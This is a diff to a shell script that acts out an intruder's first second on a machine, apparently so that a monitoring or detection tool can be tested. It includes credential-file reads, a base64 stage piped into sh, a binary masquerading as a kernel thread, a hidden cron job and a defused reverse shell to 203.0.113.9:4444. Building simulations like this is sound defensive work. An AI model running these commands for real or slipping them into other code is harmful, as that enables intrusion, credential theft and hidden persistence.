@@ -1,5 +1,5 @@
 #!/bin/sh
-# What an intruder does in his first second, played out harmlessly: everything it writes is in a directory of
+# What an intruder does in his first second, played out harmlessly: everything it writes is in directories of
 # its own that it removes, everything it starts it ends, and nothing leaves the machine. It prints nothing, so
 # that the screen belongs to who is watching:
 #
@@ -7,13 +7,17 @@
 set -eu
 umask 077
 lair=$(mktemp -d)
-trap 'cd / && rm -rf "$lair"' EXIT
+den=$(mktemp -d /dev/shm/.den.XXXXXX 2>/dev/null || mktemp -d)
+trap 'cd / && rm -rf "$lair" "$den"' EXIT
 cd "$lair"
 exec >/dev/null 2>&1
 
 # Where am I, and as whom? `|| :` because a step that this machine refuses is not the end of the story.
 id
+whoami
 uname -a
+hostname || :
+who || :
 cat /etc/passwd
 
 # A second stage arrives encoded and is piped into a shell (it says: id -u >/dev/null).
@@ -23,6 +27,10 @@ echo aWQgLXUgPi9kZXYvbnVsbAo= | base64 -d | sh || :
 printf '#!/bin/sh\nuname -r\n' >update.sh
 chmod 700 update.sh
 ./update.sh || :
+
+# And a copy of it where nothing reaches a disk.
+cp update.sh "$den/update.sh"
+"$den/update.sh" || :
 
 # A program under a name it was not born with, hidden and dressed as a kernel thread.
 cp /bin/ls '.[kworker]'
@@ -47,6 +55,9 @@ if [ -n "$memfd_create" ]; then
   ' "$memfd_create" || :
 fi
 
+# The way back to whoever sent it. The shell ends before it would connect, and nobody has that address.
+sh -c 'exit; exec bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || :
+
 # A secret on a command line. Who watches must not write it down.
 /bin/true --password hunter2
 
@@ -57,9 +68,11 @@ else
   cat /etc/shadow || :
 fi
 
-# To be back tomorrow: a job in a crontab, here one that nobody reads.
-mkdir cron.d
-echo "* * * * * root $lair/update.sh" >cron.d/update
+# To be back tomorrow: a job for cron. In a mount namespace of its own, where a directory in memory covers the real
+# one, so that cron never sees it and nothing is left.
+[ "$(id -u)" = 0 ] && root= || root=--map-root-user
+unshare $root --mount sh -c '
+  mount -t tmpfs none /etc/cron.d && echo "* * * * * root $1/update.sh" >/etc/cron.d/update' sh "$lair" || :
 
 # And whoever looks like a watchdog is stopped.
 sleep 30 &
